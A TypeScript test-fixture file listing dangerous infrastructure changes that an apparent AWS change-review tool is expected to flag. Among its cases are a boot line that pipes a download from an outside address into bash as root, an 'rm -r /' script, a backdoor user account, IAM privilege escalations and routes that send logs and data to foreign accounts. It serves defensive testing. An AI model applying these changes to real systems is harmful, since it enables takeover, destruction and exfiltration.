import type { DangerousCase } from '../support';
import { allowList, files, gateways, inBeside, inDocument, list, one, role } from './edits';

/** Who may do more. */
const access: readonly DangerousCase[] = [
  one('a role may hand on roles', { 'iam-privileged': 'iam:PassRole' }, (draft) => {
    role(draft).Policies = [
      {
        PolicyName: 'p',
        PolicyDocument: {
          Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: 'arn:aws:iam::333333333333:role/x' }],
        },
      },
    ];
  }),
  one('a managed policy of the account', { 'iam-managed-policy': 'ops-admin' }, (draft) => {
    role(draft).ManagedPolicyArns = ['arn:aws:iam::333333333333:policy/ops-admin'];
  }),
  one('administrator rights', { 'iam-managed-policy': 'AdministratorAccess' }, (draft) => {
    role(draft).ManagedPolicyArns = [
      { 'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::aws:policy/AdministratorAccess']] },
    ];
  }),
  one(
    'a role without its boundary',
    { 'iam-boundary': 'arn:aws:iam::333333333333:policy/b → nothing' },
    (draft) => {
      delete role(draft).PermissionsBoundary;
    },
    (draft) => {
      role(draft).PermissionsBoundary = 'arn:aws:iam::333333333333:policy/b';
    },
  ),
  one('a function acts as another role', { 'iam-other-role': 'acts as' }, (draft) => {
    draft.properties('Collect', 'AWS::Lambda::Function').Role = {
      'Fn::GetAtt': [draft.id('Collect', 'AWS::IAM::Role', 'GatewayRole'), 'Arn'],
    };
  }),
  one('a function acts as a role of elsewhere', { 'iam-unseen-role': 'role/other' }, (draft) => {
    draft.properties('Collect', 'AWS::Lambda::Function').Role = 'arn:aws:iam::333333333333:role/other';
  }),
  one(
    'code from another bucket',
    { 'function-of-strangers': 'S3Bucket', 'function-settings': 'Code.S3Bucket' },
    (draft) => {
      draft.properties('Collect', 'AWS::Lambda::Function').Code.S3Bucket = 'theirs';
    },
  ),
  one('open to the world by a mapping', { 'network-open-to-all': 'to 0.0.0.0/0', unjudged: 'Mappings' }, (draft) => {
    draft.stacks.Collect!.template.Mappings = { All: { of: { them: '0.0.0.0/0' } } };
    draft.add('Collect', 'In', 'AWS::EC2::SecurityGroupIngress', {
      GroupId: { Ref: draft.id('Collect', 'AWS::EC2::SecurityGroup') },
      CidrIp: { 'Fn::FindInMap': ['All', 'of', 'them'] },
      IpProtocol: 'tcp',
      FromPort: 4318,
      ToPort: 4318,
    });
  }),
  one('every protocol from a network that holds many', { 'network-opens-control': 'everything' }, (draft) => {
    draft.add('Collect', 'In', 'AWS::EC2::SecurityGroupIngress', {
      GroupId: { Ref: draft.id('Collect', 'AWS::EC2::SecurityGroup') },
      CidrIp: '10.0.0.0/8',
      IpProtocol: '-1',
    });
  }),
  one('an action that is picked', { 'iam-sweeping': 'allows * on *' }, (draft) => {
    draft.properties('Collect', 'AWS::IAM::ManagedPolicy').PolicyDocument.Statement.push({
      Effect: 'Allow',
      Action: { 'Fn::Select': [1, ['s3:GetObject', '*']] },
      Resource: '*',
    });
  }),
  one('a flow log on a condition that never holds', { 'watch-removed': 'FlowLog', unjudged: 'Conditions' }, (draft) => {
    draft.stacks.Network!.template.Conditions = { Never: { 'Fn::Equals': ['a', 'b'] } };
    (draft.resource('Network', 'AWS::EC2::FlowLog') as { Condition?: string }).Condition = 'Never';
  }),
  one(
    'a flow log that a parameter may take away',
    { 'deployed-unseen': 'Condition', unjudged: 'Template' },
    (draft) => {
      const { template } = draft.stacks.Network!;
      template.Parameters = { ...template.Parameters, Logs: { Type: 'String' } };
      template.Conditions = { Logs: { 'Fn::Equals': [{ Ref: 'Logs' }, 'on'] } };
      (draft.resource('Network', 'AWS::EC2::FlowLog') as { Condition?: string }).Condition = 'Logs';
    },
  ),
  one('a group of rules of elsewhere', { 'guard-gone': 'stateful-rulegroup/other' }, (draft) => {
    const { FirewallPolicy } = draft.properties('Link', 'AWS::NetworkFirewall::FirewallPolicy');
    FirewallPolicy.StatefulRuleGroupReferences[0].ResourceArn =
      'arn:aws:network-firewall:ap-east-1:333333333333:stateful-rulegroup/other';
  }),
  one('a policy of scaling is removed', { unjudged: 'ScalingPolicy is removed' }, (draft) => {
    draft.remove('Collect', 'AWS::AutoScaling::ScalingPolicy');
  }),
  one('a user', { 'iam-long-lived': 'User is added' }, (draft) => draft.add('Collect', 'Me', 'AWS::IAM::User', {})),
  one('another master of the store', { 'store-master': 'MasterUserARN' }, (draft) => {
    draft.domain.AdvancedSecurityOptions.MasterUserOptions.MasterUserARN = 'arn:aws:iam::333333333333:role/me';
  }),
  one('readers see what was masked', { 'store-unmasked': 'client@address masked' }, (draft) => {
    inDocument(draft, '"*attributes.client@address",', '');
  }),
  one('the writer may do everything', { 'store-rights-sweeping': '* on the cluster' }, (draft) => {
    inDocument(draft, '"cluster_permissions":["indices:data/write/bulk"]', '"cluster_permissions":["*"]');
  }),
  one('the writer may count', { 'store-rights-widen': 'indices:data/read/count' }, (draft) => {
    inDocument(draft, '"indices:admin/mapping/put"', '"indices:admin/mapping/put","indices:data/read/count"');
  }),
  one('indices of more shards', { 'store-document': 'number_of_shards' }, (draft) => {
    inDocument(draft, '"number_of_shards":"3"', '"number_of_shards":"9"');
  }),
  one('a tag that a policy looks at', { 'tag-means-something': 'harbourline:agent' }, (draft) => {
    draft.domain.Tags.push({ Key: 'harbourline:agent', Value: 'prod' });
  }),
];

/** What may leave. */
const leaves: readonly DangerousCase[] = [
  one('PrivateLink to strangers', { 'endpoint-of-strangers': 'vpce-svc-1', 'iam-sweeping': '*: * on *' }, (draft) =>
    draft.add('Network', 'Saas', 'AWS::EC2::VPCEndpoint', { ServiceName: 'com.amazonaws.vpce.ap-east-1.vpce-svc-1' }),
  ),
  one('agents send elsewhere', { 'parameter-changes': 'otlp.vendor.example' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Parameter', 'AgentAgentGateway').Value = 'otlp.vendor.example:4317';
  }),
  one(
    'a function sends elsewhere',
    { 'function-sends': 'https://vendor.example', 'function-settings': 'vendor' },
    (draft) => {
      draft.properties('Collect', 'AWS::Lambda::Function', 'Certificates').Environment = {
        Variables: { STORE_ENDPOINT: 'https://vendor.example' },
      };
    },
  ),
  one('a bucket for everybody', { 'way-out-opened': 'PublicRead' }, (draft) => {
    draft.properties('Collect', 'AWS::S3::Bucket').AccessControl = 'PublicRead';
  }),
  one(
    'a program of machines sends elsewhere',
    { 'machine-sends': 'https://10.22.8.11:4318', 'machine-settings': '10.22.8.11' },
    (draft) => {
      draft.replaceText(
        draft.properties('Link', 'AWS::EC2::LaunchTemplate'),
        'https://10.22.8.10:4318',
        'https://10.22.8.11:4318',
      );
    },
  ),
  one('a route to somebody else', { 'network-other-way': '10.99.0.0/16' }, (draft) =>
    draft.add('Network', 'Way', 'AWS::EC2::Route', {
      RouteTableId: { Ref: 'x' },
      DestinationCidrBlock: '10.99.0.0/16',
      VpcPeeringConnectionId: 'pcx-1',
    }),
  ),
  one('flow logs to a bucket of others', { 'way-out': 'arn:aws:s3:::vendor' }, (draft) =>
    draft.add('Network', 'More', 'AWS::EC2::FlowLog', {
      ...draft.properties('Network', 'AWS::EC2::FlowLog'),
      LogDestinationType: 's3',
      LogDestination: 'arn:aws:s3:::vendor',
    }),
  ),
  one('one more API', { 'endpoint-added': 'ap-east-1.sqs' }, (draft) =>
    draft.add('Network', 'Sqs', 'AWS::EC2::VPCEndpoint', {
      ServiceName: 'com.amazonaws.ap-east-1.sqs',
      PolicyDocument: { Statement: [] },
    }),
  ),
  one('logs leave for another account', { 'way-out': 'sends data on', 'foreign-account': '999999999999' }, (draft) =>
    draft.add('Collect', 'Out', 'AWS::Logs::SubscriptionFilter', {
      DestinationArn: 'arn:aws:logs:ap-east-1:999999999999:destination:out',
    }),
  ),
  one('a network of others is joined', { 'way-out': 'VPCPeeringConnection' }, (draft) =>
    draft.add('Network', 'Peering', 'AWS::EC2::VPCPeeringConnection', { PeerVpcId: 'vpc-1' }),
  ),
  one('a bucket is copied', { 'way-out-opened': 'ReplicationConfiguration' }, (draft) => {
    draft.properties('Collect', 'AWS::S3::Bucket').ReplicationConfiguration = { Role: 'r', Rules: [] };
  }),
  one('SSH between tiers', { 'network-opens-control': 'tcp 22' }, (draft) =>
    draft.add('Collect', 'Ssh', 'AWS::EC2::SecurityGroupIngress', {
      GroupId: 'sg-1',
      IpProtocol: 'tcp',
      FromPort: 22,
      ToPort: 22,
      CidrIp: '10.12.0.0/16',
    }),
  ),
  one(
    'a line of SSH',
    { 'flow-of-control': 'SSH' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text += '10.32.4.0/28 10.22.1.20/32 22 payments NET-2 2027-03-31\n';
    },
    allowList,
  ),
  one(
    'a line of MySQL',
    { 'flow-added': 'MySQL' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text += '10.32.4.0/28 10.22.1.20/32 3306 payments NET-2 2027-03-31\n';
    },
    allowList,
  ),
  one(
    'a line that lasts longer',
    { 'flow-terms': '2027-06-30 → ' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text = list.replace('2027', '2029');
    },
    allowList,
  ),
  one(
    'another firewall of the far end',
    { 'far-end-otherwise': 'policy accept' },
    (draft) => {
      inBeside(draft, 'far end').Files['harbourline.nft'] = 'policy accept;\n';
    },
    files('far end', 'Harbourline::FarEnd', { 'harbourline.nft': 'policy drop;\n' }),
  ),
  one('an output with a secret', { 'output-reveals': 'resolve:secretsmanager' }, (draft) => {
    draft.stacks.Store!.template.Outputs.Key = { Value: '{{resolve:secretsmanager:x}}' };
  }),
  one('a collector sends to one place more', { 'collector-sends': 'one place more' }, (draft) => {
    draft.replaceText(
      gateways(draft),
      '\n    exporters:\n',
      '\n    exporters:\n     otlp_http/us:\n      endpoint: https://198.51.100.7\n',
    );
  }),
];

/** What runs on machines. */
const root: readonly DangerousCase[] = [
  one('a line at boot', { 'runs-as-root': '+ curl -s http://198.51.100.7/x | bash' }, (draft) => {
    draft.replaceText(
      gateways(draft),
      'systemctl daemon-reload\n',
      'systemctl daemon-reload\n     curl -s http://198.51.100.7/x | bash\n',
    );
  }),
  one('a variable of a machine', { 'machine-settings': 'GOMEMLIMIT' }, (draft) => {
    draft.replaceText(gateways(draft), /GOMEMLIMIT=\d+/, 'GOMEMLIMIT=1');
  }),
  one(
    'a script',
    { 'runs-as-root': '+ rm -r /' },
    (draft) => {
      inBeside(draft, 'Scripts').Files['drain.sh'] = '#!/bin/bash\nrm -r /\n';
    },
    files('Scripts', 'Harbourline::Program', { 'drain.sh': '#!/bin/bash\n' }),
  ),
  one('a document of Systems Manager', { 'runs-as-root': 'useradd' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Document').Content.mainSteps[0].inputs.runCommand.push('useradd -m support');
  }),
  one('agents on other machines', { 'runs-elsewhere': 'Targets' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Association').Targets[0].Values = ['*'];
  }),
  one('agents on all machines at once', { 'roll-out-faster': 'MaxConcurrency: 10% → 100%' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Association').MaxConcurrency = '100%';
  }),
  one('another image', { 'machine-image': 'ami-1' }, (draft) => {
    gateways(draft).ImageId = 'ami-1';
  }),
  one('credentials three hops away', { 'machine-guard': 'HttpPutResponseHopLimit: 1 → 3' }, (draft) => {
    gateways(draft).MetadataOptions.HttpPutResponseHopLimit = 3;
  }),
  one(
    'other code',
    { 'program-changes': '+ exports.b' },
    (draft) => {
      inBeside(draft, 'Code').Files['main.js'] = 'exports.b = 1;\n';
    },
    files('Code', 'Harbourline::Program', { 'main.js': 'exports.a = 1;\n' }),
  ),
  one(
    'code that asks nobody',
    { 'program-changes': 'main.js', 'program-reckless': 'rejectUnauthorized' },
    (draft) => {
      inBeside(draft, 'Code').Files['main.js'] = 'connect({ rejectUnauthorized: false });\n';
    },
    files('Code', 'Harbourline::Program', { 'main.js': 'connect({});\n' }),
  ),
  one(
    'a pod that is its node',
    { 'program-changes': 'daemonset.yaml', 'program-reckless': 'privileged: true' },
    (draft) => {
      inBeside(draft, 'chart').Files['daemonset.yaml'] = 'privileged: true\n';
    },
    files('chart', 'Harbourline::Sources', { 'daemonset.yaml': 'privileged: false\n' }),
  ),
  one('a function is told something else', { 'function-settings': 'nodejs' }, (draft) => {
    draft.properties('Collect', 'AWS::Lambda::Function').Runtime = 'nodejs20.x';
  }),
];

/** Who may do more, what may leave, what runs on machines. */
export const reach: readonly DangerousCase[] = [...access, ...leaves, ...root];
